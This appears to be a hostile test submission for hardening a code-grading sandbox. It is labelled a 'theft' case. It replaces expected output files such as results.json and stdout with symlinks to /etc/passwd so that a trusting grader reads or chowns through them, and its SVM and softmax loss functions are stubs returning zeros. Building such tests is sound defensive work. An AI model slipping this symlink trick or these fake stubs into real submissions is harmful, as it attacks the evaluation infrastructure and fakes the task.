"""id: T11
category: theft
attempts: Replaces its own output files and directory by symlinks to files outside, so a trusting parent reads or chowns through them.
BOUND: 20 links
safe grader must show: nothing leaked; grader survives; no other submission affected
"""
import os
for _n in ("results.json","stdout","stderr","out.npy","result.npy","loss.npy","grad.npy","report.txt","work","tmp"):
    for _d in (".","/tmp","/output","/w"):
        try:
            p=os.path.join(_d,_n); os.path.lexists(p) and os.unlink(p); os.symlink("/etc/passwd",p)
        except OSError: pass

import numpy as np
def svm_loss_vectorized(W, X, y, reg):
    pass
    return 0.0, np.zeros_like(W)
def softmax_loss_vectorized(W, X, y, reg):
    return svm_loss_vectorized(W, X, y, reg)
